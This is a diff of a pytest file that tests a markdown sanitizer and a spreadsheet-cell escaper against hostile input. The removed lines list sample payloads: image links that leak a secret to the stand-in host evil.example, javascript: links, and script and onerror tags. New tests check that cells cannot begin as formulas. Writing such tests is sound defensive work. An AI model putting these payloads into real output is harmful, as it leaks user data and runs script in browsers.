@@ -8,38 +8,14 @@ import re
 import pytest
 from markdown_it import MarkdownIt
 
-from pages.parts.safe_markdown import safe_label, safe_markdown, safe_text
+from pages.parts.safe_markdown import safe_cell, safe_label, safe_markdown, safe_text
+from tests.attacks.patterns import names, outputs
 
 BREAK = "\u2060"
 
-HOSTILE = [
-    "![alt](https://evil.example/?q=secret)",
-    "![alt][ref]\n\n[ref]: https://evil.example/x.png",
-    "[![alt](https://evil.example/x.png)](https://evil.example)",
-    "[click](https://evil.example)",
-    "[click](javascript:alert(1))",
-    "[click][ref]\n\n[ref]: https://evil.example",
-    "<https://evil.example>",
-    "see https://evil.example/path?x=1 and www.evil.example and mail me@evil.example",
-    "**https://evil.example**",
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "<div>\n\n<a href='https://evil.example'>x</a>\n\n</div>",
-    "&lt;img src=x&gt; &#60;b&#62; &amp;lt;",
-    "`<b>` and ``a`b``",
-    "from $5 to $10 and $$x^2$$",
-    ":red[warning] :material/home: :smile: :blue-badge[1] :streamlit: :100: :+1: :shimmer[x] :color[x]{background=red}",
-    ":::note\ninside\n:::\n\n::leaf[x]{y}",
-    "\\:red[x] \\![a](https://evil.example) \\<b>",
-    "| a | b |\n|---|---|\n| ![x](https://evil.example) | `a\\|b` :red[c] |",
-    "- ![x](https://evil.example)\n  - [y](https://evil.example)\n\n> <b>quoted</b>",
-    "```mermaid\ngraph TD; A-->B\n```",
-    "```math\nx^2\n```",
-    "```python\nprint('![x](https://evil.example)') # :red[x]\n```",
-    "text ~~~\n```\nunfinished",
-    "[^1] and\n\n[^1]: https://evil.example",
-    "a\u202eb\x00c",
-]
+_ADDRESS = "https://evil.example"
+HOSTILE = outputs(_ADDRESS) | {f"name: {name}": text for name, text in names(_ADDRESS).items()}
+hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
 
 
 def _parsed(markdown: str) -> tuple[str, list[str]]:
@@ -65,20 +41,21 @@ def _assert_harmless(markdown: str) -> None:
     assert "$" not in re.sub(r"\\.|(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown, flags=re.DOTALL), markdown
     assert not re.search(r"```(mermaid|math|latex)", markdown)
     assert not re.search("[\x00\u202e]", markdown)
+    markdown.encode("utf-8")  # as it is sent to the browser
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@hostile
 def test_hostile_markdown_is_harmless(text: str) -> None:
     _assert_harmless(safe_markdown(text))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@hostile
 def test_hostile_markdown_is_harmless_wherever_the_stream_is_cut(text: str) -> None:
     for end in range(len(text)):
         _assert_harmless(safe_markdown("Before that: " + text[:end]))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@hostile
 def test_hostile_document_text_is_harmless_with_any_span_marked(text: str) -> None:
     for start in range(0, len(text), 3):
         shown = safe_text(text, [(start, start + 5)])
@@ -87,7 +64,7 @@ def test_hostile_document_text_is_harmless_with_any_span_marked(text: str) -> No
     _assert_harmless(safe_text(text))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@hostile
 def test_hostile_names_are_harmless_as_labels(text: str) -> None:
     label = safe_label(text, 200)
     _assert_harmless(label)
@@ -95,7 +72,7 @@ def test_hostile_names_are_harmless_as_labels(text: str) -> None:
 
 
 def test_random_pieces_put_together_are_harmless() -> None:
-    pieces = [piece for text in HOSTILE for piece in re.findall(r"\w+|\s|.", text)]
+    pieces = [piece for text in HOSTILE.values() for piece in re.findall(r"\w+|\s|.", text)]
     chance = random.Random(7)
     for _ in range(2000):
         _assert_harmless(safe_markdown("".join(chance.choices(pieces, k=chance.randint(2, 25)))))
@@ -162,3 +139,14 @@ def test_wrapped_lines_are_joined_and_short_ones_kept() -> None:
 def test_label_is_cut_to_one_line() -> None:
     assert safe_label("a\nb  c") == "a b c"
     assert safe_label("x" * 100, 10) == "x" * 9 + "…"
+
+
+@hostile
+def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
+    for cell in (text, f" \t\x00{text}", f"={text}", f"+{text}", f"-{text}", f"@{text}"):
+        assert not re.match(r"[=+@\-\t\r\n＝＋＠－]", safe_cell(cell))
+
+
+def test_other_cells_stay_as_they_are() -> None:
+    assert safe_cell("Revenue was -5 = 3 + 2.") == "Revenue was -5 = 3 + 2."
+    assert safe_cell("-5") == "'-5"
